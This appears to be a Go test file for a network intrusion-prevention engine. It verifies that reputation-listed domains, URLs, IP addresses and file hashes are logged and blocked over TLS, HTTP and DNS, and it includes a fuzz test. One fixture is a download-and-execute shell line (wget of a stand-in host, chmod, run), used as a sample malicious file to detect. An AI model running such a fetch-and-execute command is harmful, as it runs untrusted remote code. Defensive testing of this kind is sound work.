package engine_test

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/masugata/masugata/internal/inspect/engine"
	"github.com/masugata/masugata/internal/inspect/flow"
	"github.com/masugata/masugata/internal/inspect/packet"
	"github.com/masugata/masugata/internal/inspect/protocol"
	"github.com/masugata/masugata/internal/inspect/protocol/all"
	"github.com/masugata/masugata/internal/inspect/protocol/parsetest"
	"github.com/masugata/masugata/internal/inspect/rule"
)

// told is a Sink that keeps what of bad reputation was met.
type told struct {
	found
	listed []string
}

func (s *told) Listed(l *engine.Listed) {
	s.listed = append(s.listed, fmt.Sprintf("%s %s %s %v", l.Where, l.Subject.Kind, l.Subject.AppendText(nil), l.Stop))
}

// black is a Known that lists texts and stops them unless it observes.
type black struct {
	list    map[string]bool // true: listed, false: allowed
	observe bool
	asked   int
}

func (k *black) Ask(s *engine.Subject) engine.Standing {
	k.asked++
	var b [300]byte
	bad, ok := k.list[string(s.AppendText(b[:0]))]
	return engine.Standing{Listed: bad, Stop: bad && !k.observe, Allowed: ok && !bad, Score: 80}
}

func (k *black) Wants() (engine.Kinds, protocol.Hashes) {
	return ^engine.Kinds(0), protocol.WantMD5 | protocol.WantSHA256
}

func asking(t testing.TB, k engine.Known, s engine.Sink, text string, settings engine.Settings) *engine.Engine {
	t.Helper()
	f, err := engine.FlowConfig(settings, true)
	if err != nil {
		t.Fatal(err)
	}
	e, err := engine.New(engine.Config{Specs: all.Specs(), Rules: compile(t, text), Flow: f, Decoder: engine.DecoderOptions(settings, false),
		Settings: settings, Sink: s, Known: k, Inspect: rule.InspectorConfig{PacketAlertMax: 15, RecursionLimit: 3000, IPS: true}})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// hello is a client's hello for a server's name.
func hello(name string) []byte {
	n := len(name)
	sni := []byte{0, 0, 0, byte(n + 5), 0, byte(n + 3), 0, 0, byte(n)}
	sni = append(sni, name...)
	body := append([]byte("\x03\x03"+strings.Repeat("r", 32)+"\x00\x00\x02\x13\x01\x01\x00"), 0, byte(len(sni)))
	body = append(body, sni...)
	out := []byte{0x16, 3, 1, 0, byte(len(body) + 4), 1, 0, 0, byte(len(body))}
	return append(out, body...)
}

func sum(b []byte) string { h := sha256.Sum256(b); return hex.EncodeToString(h[:]) }

// TestListedIsStopped: each kind of thing is asked about where it is named,
// told, and stopped with the packet that makes it known, without any rule.
func TestListedIsStopped(t *testing.T) {
	body := []byte("#!/bin/sh\nwget http://x/y; chmod +x y; ./y\n")
	md := md5.Sum(body)
	answer := append([]byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: %d\r\n\r\n", len(body))), body...)
	for _, c := range []struct {
		name, bad string
		port      uint16
		up, down  []byte
		want      string
		inAnswer  bool
	}{
		{"sni", "evil.example", 443, hello("evil.example"), nil, "tls.sni domain evil.example true", false},
		{"host", "www.example.com", 80, get, nil, "http.host domain www.example.com true", false},
		{"url", "www.example.com/a.html?b=c", 80, get, nil, "http.uri url www.example.com/a.html?b=c true", false},
		{"proxy", "http://www.example.com/x", 3128, []byte("GET http://www.example.com/x HTTP/1.1\r\nHost: www.example.com\r\n\r\n"), nil, "http.uri url http://www.example.com/x true", false},
		{"no host", "10.0.0.2/x", 80, []byte("GET /x HTTP/1.0\r\n\r\n"), nil, "http.uri url 10.0.0.2/x true", false},
		{"file", sum(body), 80, get, answer, "file file " + sum(body) + " true", true},
		{"file by md5", hex.EncodeToString(md[:]), 80, get, answer, "file file " + hex.EncodeToString(md[:]) + " true", true},
		{"client", "10.0.0.1", 80, get, nil, "address address 10.0.0.1 true", false},
		{"server", "10.0.0.2", 80, get, nil, "address address 10.0.0.2 true", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, observe := range []bool{false, true} {
				s, k := &told{}, &black{list: map[string]bool{c.bad: true}, observe: observe}
				talk := begin(asking(t, k, s, "", nil), 40000, c.port)
				refused := func(where string, d packet.Direction, data []byte, want bool) {
					t.Helper()
					if talk.send(d, psh|ack, data); talk.last.Drop != want || talk.last.Listed != want || talk.last.Answer {
						t.Errorf("observe %v, %s: %+v", observe, where, talk.last)
					}
				}
				refused("request", packet.ToServer, c.up, !observe && !c.inAnswer)
				if c.down != nil {
					refused("answer but its last bytes", packet.ToClient, c.down[:len(c.down)-9], false)
					refused("answer", packet.ToClient, c.down[len(c.down)-9:], !observe && c.inAnswer)
				}
				if want := engine.TellSender | engine.TellReceiver; !observe && !strings.HasPrefix(c.want, "address") && talk.last.Tell != want {
					t.Errorf("told %b", talk.last.Tell)
				}
				refused("what follows", packet.ToServer, []byte("more"), !observe)
				if talk.last.Tell != 0 {
					t.Error("the ends are told again")
				}
				want := c.want
				if observe {
					want = strings.TrimSuffix(want, "true") + "false"
				}
				if !slices.Equal(s.listed, []string{want}) {
					t.Errorf("observe %v: told %q, want %q", observe, s.listed, want)
				}
				st := talk.e.Stats()
				if st.Listed != 1 || st.ListedStopped > 0 == observe {
					t.Errorf("stats %d, %d", st.Listed, st.ListedStopped)
				}
				talk.e.Close()
			}
		})
	}
}

// TestListedQuery: of datagrams only the query itself is stopped, to be
// answered; over TCP the session is.
func TestListedQuery(t *testing.T) {
	s, k := &told{}, &black{list: map[string]bool{"example.com": true}}
	e := asking(t, k, s, "", nil)
	other := []byte(strings.Replace(string(query), "example", "examplf", 1))
	for i, c := range []struct {
		b    []byte
		stop bool
	}{{query, true}, {other, false}, {query, true}} {
		if a := e.Frame(rawIP, udp(1, 2, 4000, 53, c.b), int64(1e18+i), 1); a.Drop != c.stop || a.Listed != c.stop || a.Answer != c.stop || a.Tell != 0 {
			t.Errorf("%d: %+v", i, a)
		}
	}
	if a := e.Frame(rawIP, udp(2, 1, 53, 4000, answer), int64(1e18+9), 1); a.Drop {
		t.Errorf("an answer is stopped: %+v", a)
	}
	if a := e.Frame(rawIP, ip(4, 1, 2, udp(3, 4, 4000, 53, query)), 1e18+10, 1); !a.Drop || !a.Listed || a.Answer {
		t.Errorf("in a tunnel: %+v", a)
	}
	talk := begin(e, 40000, 53)
	if talk.send(packet.ToServer, psh|ack, append([]byte{0, byte(len(query))}, query...)); !talk.last.Listed || talk.last.Answer || talk.last.Tell == 0 {
		t.Errorf("over TCP: %+v", talk.last)
	}
	if len(s.listed) != 4 || s.listed[0] != "dns.query domain example.com true" {
		t.Errorf("told %q", s.listed)
	}
}

// TestAllowedNameWins: what an allowed name serves is not asked about.
func TestAllowedNameWins(t *testing.T) {
	s, k := &told{}, &black{list: map[string]bool{"www.example.com": false, "www.example.com/a.html?b=c": true}}
	talk := begin(asking(t, k, s, "", nil), 40000, 80)
	if talk.send(packet.ToServer, psh|ack, get); talk.last.Drop || len(s.listed) > 0 {
		t.Errorf("%+v, told %q", talk.last, s.listed)
	}
}

// TestRenewedLooksAgain: sessions that go on, bypassed ones too, fall under a
// new list by their names and addresses, and are let go again by the next.
func TestRenewedLooksAgain(t *testing.T) {
	random := strings.Repeat("r", 32)
	serverHello := []byte("\x16\x03\x03\x00\x2a\x02\x00\x00\x26\x03\x03" + random + "\x00\x13\x01\x00\x14\x03\x03\x00\x01\x01")
	record := []byte("\x17\x03\x03\x00\x08encrypts")
	for _, bad := range []string{"camera.example", "10.0.0.2"} {
		s, k := &told{}, &black{list: map[string]bool{}}
		talk := begin(asking(t, k, s, "", engine.Settings{"stream.bypass": "yes", "app-layer.protocols.tls.encryption-handling": "bypass"}), 40000, 443)
		talk.say(packet.ToServer, hello("camera.example"))
		talk.say(packet.ToClient, serverHello)
		for range 3 {
			talk.say(packet.ToServer, record)
			talk.say(packet.ToClient, record)
		}
		if f := talk.last.Flow; f == nil || f.Flags&flow.FlagBypassed == 0 {
			t.Fatal("an encrypted session is not bypassed")
		}
		asked := k.asked
		talk.say(packet.ToServer, record)
		if k.asked != asked {
			t.Error("a bypassed flow is asked about")
		}
		k.list[bad] = true
		talk.e.Renewed()
		if talk.send(packet.ToServer, psh|ack, record); !talk.last.Listed || len(s.listed) != 1 {
			t.Errorf("%s: %+v, told %q", bad, talk.last, s.listed)
		}
		delete(k.list, bad)
		talk.e.Renewed()
		if talk.send(packet.ToServer, psh|ack, record); talk.last.Drop || talk.last.Flow.Flags&flow.FlagBypassed == 0 {
			t.Errorf("%s, no longer listed: %+v", bad, talk.last)
		}
	}
}

// TestAskingAllocatesNothing: nor does it ask again about what has not changed.
func TestAskingAllocatesNothing(t *testing.T) {
	k := &black{list: map[string]bool{}}
	e := asking(t, k, &told{}, ordinary, engine.Settings{"stream.reassembly.depth": "0"})
	s := begin(e, 40000, 80)
	up := udp(1, 2, 4000, 53, query)
	now := s.now
	steady(t, func() {
		now += 1e6
		s.now = now
		s.say(packet.ToServer, get)
		s.say(packet.ToClient, page)
		e.Frame(rawIP, up, now, 1)
	})
	if per := k.asked / 800; per > 4 && !parsetest.Race { // a URL, two digests of a file, a query
		t.Errorf("%d questions a request", per)
	}
}

// TestListedRecord: eve.json has a record of its own.
func TestListedRecord(t *testing.T) {
	var out strings.Builder
	k := &black{list: map[string]bool{"www.example.com": true}}
	talk := begin(asking(t, k, engine.Both{engine.NewRecords(&out, engine.RecordOptions{IPS: true}), &told{}}, "", nil), 40000, 80)
	talk.say(packet.ToServer, get)
	var r struct {
		Type       string `json:"event_type"`
		App        string `json:"app_proto"`
		Src        string `json:"src_ip"`
		Reputation struct {
			Action, Type, Value, Where string
			Score                      int
		}
	}
	for line := range strings.Lines(out.String()) {
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		if r.Type == "reputation" {
			break
		}
	}
	if got := r.Reputation; r.App != "http" || r.Src != "10.0.0.1" || got.Action != "blocked" || got.Type != "domain" || got.Value != "www.example.com" || got.Where != "http.host" || got.Score != 80 {
		t.Errorf("%+v in %s", r, out.String())
	}
}

// some is a Known that lists a third of all it is asked about.
type some struct{ sum uint32 }

func (k *some) Ask(s *engine.Subject) engine.Standing {
	var b [4096]byte
	for _, c := range s.AppendText(b[:0]) {
		k.sum = k.sum*31 + uint32(c)
	}
	listed := k.sum%3 == 0
	return engine.Standing{Listed: listed, Stop: listed && k.sum%2 == 0, Allowed: k.sum%7 == 1, Score: uint8(k.sum % 101)}
}

func (k *some) Wants() (engine.Kinds, protocol.Hashes) {
	return ^engine.Kinds(0), (protocol.WantMD5 | protocol.WantSHA256).OfHazards()
}

// FuzzListed inspects one session of any bytes while much of it is listed, and
// lists change on the way: nothing may break, and each record is one line of
// JSON.
func FuzzListed(f *testing.F) {
	ports, specs, set := servers(), all.Specs(), compile(f, "")
	for i, port := range ports {
		switch port {
		case 80:
			f.Add(append(append([]byte{}, get...), page...), uint8(i), false, uint16(0x1100|(len(get)-1)))
		case 443:
			f.Add(hello("evil.example"), uint8(i), false, uint16(0x1100|40))
		case 53:
			f.Add(append(append([]byte{}, query...), answer...), uint8(i), true, uint16(0x100|(len(query)-1)))
		}
	}
	f.Fuzz(func(t *testing.T, data []byte, port uint8, datagrams bool, how uint16) {
		var out strings.Builder
		cfg, err := engine.FlowConfig(engine.Settings{}, how&1 == 0)
		if err != nil {
			t.Fatal(err)
		}
		cfg.MaxFlows, cfg.Stream.Memory = 256, 1<<20
		e, err := engine.New(engine.Config{Specs: specs, Rules: set, Flow: cfg, Known: &some{}, Sink: engine.NewRecords(&out, engine.RecordOptions{IPS: true})})
		if err != nil {
			t.Fatal(err)
		}
		data = data[:min(len(data), 1<<14)]
		replay(e, data[:len(data)/2], ports[int(port)%len(ports)], datagrams, how)
		e.Renewed()
		replay(e, data[len(data)/2:], ports[int(port)%len(ports)], datagrams, how)
		e.Close()
		for line := range strings.Lines(out.String()) {
			if !json.Valid([]byte(line)) {
				t.Fatalf("not JSON: %s", line)
			}
		}
	})
}
